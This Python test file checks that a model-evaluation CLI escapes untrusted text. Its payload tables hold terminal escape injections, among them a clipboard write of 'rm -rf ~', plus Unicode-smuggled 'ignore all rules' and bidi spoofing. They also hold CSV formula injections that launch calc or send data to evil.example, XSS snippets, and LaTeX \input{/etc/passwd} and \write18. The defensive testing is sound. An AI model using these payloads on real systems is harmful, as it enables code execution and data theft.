"""What data can do where it is shown: nothing. Data are texts and names of files, servers and models."""

from __future__ import annotations

import csv
import io
import json
import re
import shlex
import time
import unicodedata
from contextlib import suppress
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from rich.table import Table as RichTable
from rich.text import Text

from clca.cli.views.content import list_content, show_content
from clca.cli.views.dialogue import show_dialogue
from clca.cli.views.progress import Waiting
from clca.cli.views.review import review
from clca.cli.views.runs import show_dialogues, show_runs
from clca.cli.views.screen import make_console, print_json
from clca.cli.views.wrapping import wrapped
from clca.content.lookup import CONFIG, Content
from clca.errors import StoreError
from clca.evaluation import table_formats
from clca.evaluation.classification.specificity import specificity
from clca.evaluation.cspec.heatmap import heatmap
from clca.evaluation.table import Cell, Row, Table
from clca.printable import csv_cell, is_printable, json_text, latex_text, markdown_text, one_line, printable
from clca.shell import command_line
from clca.storage.run_index import RunInfo
from tests.cli_process import clca

ATTACKS = {
    "colours": "\x1b[31mred\x1b[0m",
    "a screen that is cleared": "\x1b[2J\x1b[H",
    "a link of a terminal": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "a clipboard that is written": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "a title of a window": "\x1b]0;evil\x07",
    "an answer of the terminal": "\x1b[6n",
    "C1 controls": "\x9b31mred\x9b0m",
    "a string of C1": "\x90evil\x9c",
    "backspaces": "evil\b\b\b\bgood",
    "a carriage return": "evil\rgood",
    "a bell": "\a",
    "a zero byte": "a\0b",
    "a delete": "a\x7fb",
    "a direction that is overridden": "\u202egpj.exe",
    "a direction that is embedded": "\u202bevil\u202c",
    "a direction that is isolated": "\u2067evil\u2069",
    "a mark of direction": "a\u200fb",
    "an Arabic mark of direction": "a\u061cb",
    "a space without width": "jap\u200ban",
    "a joiner between Latin letters": "jap\u200dan",
    "a byte order mark": "jap\ufeffan",
    "a soft hyphen": "jap\u00adan",
    "a word joiner": "jap\u2060an",
    "a text in tags": "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "a text in variation selectors": "a" + "".join(chr(0xE0100 + ord(letter)) for letter in "evil"),
    "a filler": "jap\u3164an",
    "a separator of lines": "a\u2028b",
    "an annotation": "\ufff9a\ufffab\ufffb",
    "half a character": "a\ud800b",
    "markup of the console": "[bold red]evil[/]",
    "a link in markup": "[link=http://evil.example]here[/link]",
    "markup that is closed but not opened": "evil[/bold]",
    "an action in markup": "[@click=app.quit]here[/]",
    "an emoji code": ":warning: :red_circle:",
    "a backslash before markup": "\\[bold]evil[/bold]",
}


def check(shown: str) -> None:
    """Nothing in it acts on a terminal, or is not seen."""
    for character in shown:
        if character not in "\n\t":
            assert unicodedata.category(character) not in ("Cc", "Cf", "Cs", "Zl", "Zp"), repr(character)


def record(text: str) -> dict[str, Any]:
    verdict = {"label": text, "confidence": text, "rationale": text}
    turn = {"speaker": text, "text": text, "thought": text, "action": "speak"}
    turn["intent"] = {"text": text, "relevance": "cultural", "customs": [text]}
    person = dict.fromkeys(("name", "age", "gender", "occupation", "background", "goal", "secret"), text)
    return {
        "id": text,
        "teacher": text,
        "partner": text,
        "judge": text,
        "seed": text,
        "scenario": {"setting": text, "relationship": text, "source": text, "breach": text, "participants": [person]},
        "turns": [turn, *({**turn, "action": action} for action in ("non-verbal", "leave", "none"))],
        "ended": text,
        "verdict": text,
        "reason": text,
        "planted": text,
        "judgement": dict.fromkeys(("quality", "alignment", "meta"), verdict),
    }


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_dialogue_is_shown_as_text(attack: str, capsys: pytest.CaptureFixture[str]) -> None:
    text = ATTACKS[attack]
    show_dialogue("kept", record(text), as_json=False)
    shown = capsys.readouterr().out
    check(shown)
    assert shown.count(printable(text)) >= 20


@pytest.mark.parametrize("attack", ATTACKS)
def test_json_is_inert_and_is_read_back(attack: str, capsys: pytest.CaptureFixture[str]) -> None:
    value = {ATTACKS[attack]: [ATTACKS[attack]]}
    print_json(value)
    shown = capsys.readouterr().out
    check(shown)
    assert json.loads(shown) == value


@pytest.mark.parametrize("attack", [name for name, text in ATTACKS.items() if "\ud800" not in text])
def test_tables_of_a_run_are_text(attack: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = ATTACKS[attack]
    (tmp_path / "dialogues.jsonl").write_text(json.dumps(record(text)) + "\n")
    show_dialogues(RunInfo(tmp_path, {}), ["kept"], 10, as_json=False)
    shown = capsys.readouterr().out
    check(shown)
    assert shown.count(printable(text)) == 3


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_error_is_one_line_of_text(attack: str) -> None:
    line = one_line(f"{ATTACKS[attack]}\n\t")
    check(line)
    assert "\n" not in line
    assert "\t" not in line


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_line_of_a_starting_server_is_text(attack: str, capsys: pytest.CaptureFixture[str]) -> None:
    screen = make_console()
    waiting = Waiting(screen)
    waiting._shown = -1e9
    waiting.show(ATTACKS[attack])
    shown = capsys.readouterr().out
    check(shown)
    assert printable(ATTACKS[attack]) in shown


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_shell_line_that_is_printed_is_one_word_of_a_shell(attack: str) -> None:
    line = command_line("clca", "show", Path(ATTACKS[attack].replace("\0", "").replace("\ud800", "\udc80")))
    check(line)
    assert is_printable(line)
    if "$'" not in line:
        assert len(shlex.split(line)) == 3


MEBI_CELL = "\u30a2 " * 2**20


@pytest.mark.parametrize("cell", [MEBI_CELL, Text(MEBI_CELL)], ids=["a text", "a text with a style"])
def test_a_cell_of_megabytes_is_shown_by_its_beginning(cell: str | Text, capsys: pytest.CaptureFixture[str]) -> None:
    """A run of a stranger may have any reason and id; each row would be as wide as the widest."""
    table = RichTable()
    table.add_column("reason")
    for _ in range(40):
        table.add_row(cell)
    make_console().print(table)
    assert len(capsys.readouterr().out) < 200_000


@pytest.mark.parametrize("text", ["\u3099", "\u6f22", "word "], ids=["no width", "no spaces", "words"])
def test_a_text_is_broken_in_the_time_of_its_length(text: str) -> None:
    """A reply may have 256 Ki characters. Sound marks of Japanese have no width, so that no line is ever full."""
    began = time.process_time()
    assert wrapped(Text("x" * 100 + " " + text * (100_000 // len(text))), 80).plain.count("\n") >= 1
    assert time.process_time() - began < 5


@pytest.mark.parametrize("attack", [name for name in ATTACKS if not {"\0", "\ud800"} & set(ATTACKS[name])])
def test_names_of_files_are_text(
    attack: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    name = ATTACKS[attack].replace("/", "_")
    (tmp_path / CONFIG).touch()
    (tmp_path / "prompts").mkdir()
    (tmp_path / "prompts" / f"{name}.j2").write_text("{{ a }}")
    run = tmp_path / "generated" / "japan" / name
    run.mkdir(parents=True)
    (run / "run.json").write_text("{}")
    monkeypatch.chdir(tmp_path)
    list_content("*", as_json=False)
    show_runs(Path("generated"), as_json=False)
    shown = capsys.readouterr().out
    check(shown)
    assert shown.count(one_line(name)) == 2


def test_a_name_of_a_file_cannot_add_a_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run = tmp_path / "japan" / "a\nclca: all is well"
    run.mkdir(parents=True)
    (run / "run.json").write_text("{}")
    show_runs(tmp_path, as_json=False)
    assert "\nclca: all is well" not in capsys.readouterr().out


def test_a_content_file_is_text_on_a_terminal_and_itself_in_a_pipe(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / CONFIG).touch()
    (tmp_path / "prompts").mkdir()
    (tmp_path / "prompts" / "intent.j2").write_text("\x1b[31mred\n")
    monkeypatch.chdir(tmp_path)
    show_content("prompts/intent.j2")
    assert capsys.readouterr().out == "\x1b[31mred\n"
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    show_content("prompts/intent.j2")
    assert capsys.readouterr().out == "\\x1b[31mred\n"


def test_a_run_of_a_stranger_is_shown_by_the_command(tmp_path: Path) -> None:
    text = "".join(ATTACKS.values()).replace("\ud800", "")
    run = tmp_path / "generated" / "japan" / "run"
    run.mkdir(parents=True)
    (run / "run.json").write_text("{}")
    (run / "dialogues.jsonl").write_text(json.dumps({**record(text), "id": "x"}) + "\n")
    for arguments in (("show", str(run)), ("show", str(run), "x"), ("show", str(run), "x", "--json")):
        done = clca(tmp_path, *arguments)
        assert done.returncode == 0, done.stderr
        check(done.stdout + done.stderr)
    (run / "dialogues.jsonl").write_text(json.dumps({**record("a\ud800b"), "id": "x"}) + "\n")
    refused = clca(tmp_path, "show", str(run))
    assert refused.returncode == 2
    assert "dialogues.jsonl:1: not a record of a run" in refused.stderr


@pytest.mark.parametrize(
    "change",
    [
        {"turns": None},
        {"turns": [None]},
        {"turns": [{"speaker": {}, "text": [], "action": "speak"}]},
        {"turns": [{}]},
        {"scenario": "a text"},
        {"scenario": {"setting": {}}},
        {"teacher": {}},
        {"judgement": []},
        {"judgement": {"quality": None}},
        {"verdict": {}, "judgement": {"quality": 3}},
    ],
    ids=str,
)
def test_a_record_of_another_form_is_shown_or_told_in_one_line(change: dict[str, Any]) -> None:
    with suppress(StoreError):
        show_dialogue("kept", {**record("x"), **change}, as_json=False)


# ---------------------------------------------------------------- files that other programs read


def test_a_sheet_for_native_readers_holds_a_profile_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / CONFIG).touch()
    document = yaml.safe_load(Content().text("personas/cultures/japan.yaml"))
    text = "".join(ATTACKS.values()).replace("\ud800", "") + "<b>\n# all is well"
    document |= {"name": text, "customs": [text], "sources": [text]}
    (tmp_path / "personas" / "cultures").mkdir(parents=True)
    (tmp_path / "personas" / "cultures" / "japan.yaml").write_text(yaml.safe_dump(document))
    monkeypatch.chdir(tmp_path)
    for name in ("sheet.md", "sheet.json"):
        review("japan", tmp_path / name, as_json=name.endswith("json"))
        check(sheet := (tmp_path / name).read_text(encoding="utf-8"))
        assert "\n# all is well" not in sheet
    assert "\n# " not in (tmp_path / "sheet.md").read_text(encoding="utf-8")
    assert re.search(r"(?<!\\)<b>", (tmp_path / "sheet.md").read_text(encoding="utf-8")) is None


FORMULAS = {
    "a command": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("http://evil.example?x="&A1,"here")',
    "a plus": "+1+cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a tab before": "\t=1+1",
    "a return before": "\r=1+1",
    "a wide sign": "＝1+1",
}
MARKUP = {
    "a script": "<script>alert(1)</script>",
    "an image": "![x](http://evil.example/x.png)",
    "a link": "[here](javascript:alert(1))",
    "a cell": "a | b",
    "a line": "a\n\n# b\n",
    "code": "`a`",
    "an entity": "&lt;script&gt;",
    "a formula": "$\\href{http://evil.example}{x}$",
    "an escape before": "\\<b>",
    "a command of LaTeX": r"\input{/etc/passwd}",
    "a shell of LaTeX": r"\immediate\write18{id}",
    "a character code of LaTeX": "^^5cinput{/etc/passwd}",
    "a comment of LaTeX": "a % b",
    "a row of LaTeX": r"a \\ b & c",
    "an option of LaTeX": r"[1em]",
    "a paragraph of LaTeX": "a\n\nb",
    "a paragraph by a separator": "a\u2029b",
}


MATRIX = specificity(("germany", "japan"), [[0.5, 0.2], [0.25, 0.4]], seed=1)


def table(text: str) -> Table:
    rows = (Row(text, "ours", (Cell(-0.5, -0.6, -0.4),), -0.25, group=text),)
    return Table("metric", text, (text,), rows, (text,), corner=text)


@pytest.mark.parametrize("attack", FORMULAS)
def test_no_cell_begins_a_formula_and_numbers_stay_numbers(attack: str) -> None:
    rows = list(csv.reader(io.StringIO(table_formats.csv_text([table(FORMULAS[attack])]))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "＝"))
            assert not cell.startswith("-") or float(cell) < 0
    assert rows[1][3] == csv_cell(FORMULAS[attack])
    assert rows[1][4] == "-0.5"


@pytest.mark.parametrize("attack", [*MARKUP, *FORMULAS])
def test_a_table_in_markdown_has_the_cells_that_it_had(attack: str) -> None:
    text = (MARKUP | FORMULAS)[attack]
    shown = table_formats.markdown([table(text)])
    check(shown)
    lines = shown.splitlines()
    assert len(lines) == len(table_formats.markdown([table("plain")]).splitlines())
    for line in lines:
        bare = re.sub(r"\\.|\[-0.6000, -0.4000\]", "", line).replace("**", "")
        assert not set("<`$&[]") & set(bare)
        if line.startswith("|"):
            assert bare.count("|") == 4


@pytest.mark.parametrize("attack", [*MARKUP, *FORMULAS])
def test_a_table_in_latex_has_the_commands_that_it_had(attack: str) -> None:
    text = (MARKUP | FORMULAS)[attack]
    commands = {"textbackslash", "textasciitilde", "textasciicircum", "textless", "textgreater", "textbar"}
    shown = table_formats.latex([table(text)])
    plain = table_formats.latex([table("plain")])
    check(shown)
    known = set(re.findall(r"\\([a-zA-Z]+)", plain)) | commands
    assert set(re.findall(r"\\([a-zA-Z]+)", shown)) <= known
    assert len(shown.splitlines()) == len(plain.splitlines())
    assert not re.search(r"(?<!\\)[%$#]", latex_text(text))
    assert "^" not in shown


@pytest.mark.parametrize("attack", [*MARKUP, *ATTACKS])
def test_a_heat_map_is_a_picture_without_scripts(attack: str) -> None:
    text = (MARKUP | ATTACKS)[attack] + "--><script>alert(1)</script><!--"
    picture = heatmap(MATRIX, "ranks", names={"japan": text}, title=text)["svg"]
    names = {element.tag.rpartition("}")[2] for element in ElementTree.fromstring(picture).iter()}
    assert not names & {"script", "a", "foreignObject"}


@given(st.text())
def test_any_text_is_printable_once_and_for_all(text: str) -> None:
    shown = printable(text)
    assert is_printable(shown)
    assert printable(shown) == shown
    assert json.loads(json_text(text)) == text
    assert is_printable(json_text(text))
    assert is_printable(markdown_text(text))
    assert "\n" not in latex_text(text)


@pytest.mark.parametrize(
    "text",
    [
        "Wie geht's? Ça va, Øresund, naïve",
        "می‌خواهم",  # Persian, with a non-joiner
        "क्‍ष ನ್‌",  # Hindi with a joiner, Kannada with a non-joiner
        "👩‍👩‍👧 ❤️ 1️⃣ 🏳️‍🌈",
        "葛󠄀城",  # a variant of a Chinese character
        "東京　タワー\n\tשלום مرحبا",
        "№ “quoted” – … µ °C",
    ],
)
def test_honest_text_is_shown_as_it_is(text: str) -> None:
    assert printable(text) == text


def test_no_view_reads_markup_or_prints_past_the_console() -> None:
    import clca.cli

    for file in Path(clca.cli.__file__).parent.rglob("*.py"):
        source = file.read_text()
        assert "rich.markup" not in source
        assert "from_markup" not in source
        assert "markup=True" not in source
        if file.parent.name == "views" and file.name != "screen.py":
            assert not re.search(r"(?<![.\w])print\(", source), file
            assert "rich.text import" not in source or file.name in ("cspec.py", "fitting.py", "wrapping.py"), file
